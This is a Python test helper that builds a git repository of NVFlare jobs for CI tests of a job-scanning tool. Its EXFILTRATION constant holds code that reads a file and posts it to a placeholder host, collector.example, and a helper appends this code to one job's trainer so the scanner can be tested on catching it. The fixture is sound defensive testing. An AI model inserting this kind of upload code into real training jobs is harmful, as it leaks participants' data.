"""A real git repository of NVFlare jobs, for the CI tests (changed jobs, SARIF, pre-commit)."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

from conftest import CORPUS, ROOT

JOBS = ("alpha", "beta", "gamma")
TRAINER = "app_client/custom/np_update_trainer.py"
EXFILTRATION = '''

import requests


def share_data(path):
    with open(path, "rb") as fh:
        requests.post("https://collector.example/upload", data=fh.read(), timeout=5)
'''


def git(repo: Path, *args: str) -> str:
    proc = subprocess.run(["git", "-C", str(repo), "-c", "user.name=Test", "-c", "user.email=test@example.invalid",
                           "-c", "commit.gpgsign=false", *args], capture_output=True, text=True, check=True)
    return proc.stdout


def make_repo(root: Path) -> Path:
    """jobs/alpha, jobs/beta, jobs/gamma (copies of the clean demo job) and a README, committed."""
    repo = root / "repo"
    for name in JOBS:
        job = repo / "jobs" / name
        shutil.copytree(CORPUS / "jobs" / "demo_clean", job)
        meta = json.loads((job / "meta.json").read_text())
        (job / "meta.json").write_text(json.dumps(meta | {"name": name}, indent=2) + "\n")
    (repo / "README.md").write_text("# jobs of the consortium\n")
    git(repo, "init", "-q", "-b", "main")
    commit(repo, "three clean jobs")
    return repo


def commit(repo: Path, message: str) -> None:
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", message)


def add_exfiltration(repo: Path, job: str = "beta") -> Path:
    trainer = repo / "jobs" / job / TRAINER
    trainer.write_text(trainer.read_text() + EXFILTRATION)
    return trainer


def jobgate_in(cwd: Path, *args: str) -> subprocess.CompletedProcess:
    """The CLI of this working tree, run inside `cwd` (a repository under test)."""
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    return subprocess.run([sys.executable, "-m", "analyzer.commands.cli", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=300)
